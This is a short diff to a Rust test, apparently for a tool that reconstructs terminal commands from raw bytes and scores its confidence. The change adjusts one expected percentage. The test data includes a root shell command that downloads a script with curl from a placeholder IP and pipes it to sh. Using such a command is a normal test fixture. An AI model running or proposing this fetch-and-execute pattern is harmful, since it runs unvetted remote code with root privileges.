@@ -37,7 +37,7 @@ fn a_command_is_explained_by_its_evidence_and_its_bytes() {
                +3.0 between the line editor's own marks
                +1.0 a new prompt, after a command that opens one
                +1.0 edited in place
-               = 99.5 % sure
+               = 99.4 % sure
                runner-up: "~]# curl -s http://198.51.100.7/install.sh | sh" behind the prompt "[root@ip-10-0-3-7 "
                | [root@ip-10-0-3-7 ~]# curl -s http://198.51.100.7/install.sj\x08\x1b[Kh | sh\x0d\x0d
                | \x1b[?2004l
